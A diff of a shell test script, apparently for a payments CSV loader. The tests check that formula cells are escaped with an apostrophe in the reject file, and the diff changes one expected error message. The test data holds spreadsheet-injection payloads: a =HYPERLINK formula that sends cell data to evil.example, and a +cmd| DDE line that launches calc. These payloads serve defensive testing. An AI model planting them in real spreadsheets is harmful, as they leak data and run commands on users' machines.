@@ -20,7 +20,7 @@ f="$WORK/formulas.csv"
 load payments -q "$f" >/dev/null 2>&1
 is "$?" 4 "CSV with formula cells: exit 4"
 rej="$f.rejects.csv"
-is "$(sed -n 2p "$rej")" "F-2,EDU01,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"x\"\")\",'-2+3,transfer,2024-03-05,formula,3,amount,is negative (amounts must be ≥ 0; record a refund as its own row)"$'\r' "reject file: =HYPERLINK and -2+3 start with '"
+is "$(sed -n 2p "$rej")" "F-2,EDU01,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"x\"\")\",'-2+3,transfer,2024-03-05,formula,3,amount,is not a number"$'\r' "reject file: =HYPERLINK and -2+3 start with '"
 like "$(cat "$rej")" "F-3,EDU01,'\\+cmd\\|' /C calc'!A0,'@SUM\\(1\\),transfer" "reject file: +cmd| and @SUM start with '"
 like "$(cat "$rej")" "F-4,NOPE,'=1\\+1,10,transfer,2024-03-05,'-2\\+3,5,payer_unit_code" "rows refused at merge time are neutralised too"
 is "$(awk -F, 'NR > 1 && $3 ~ /^[=+@-]/' "$rej" | wc -l)" 0 "no payee cell of the reject file starts with a formula character"
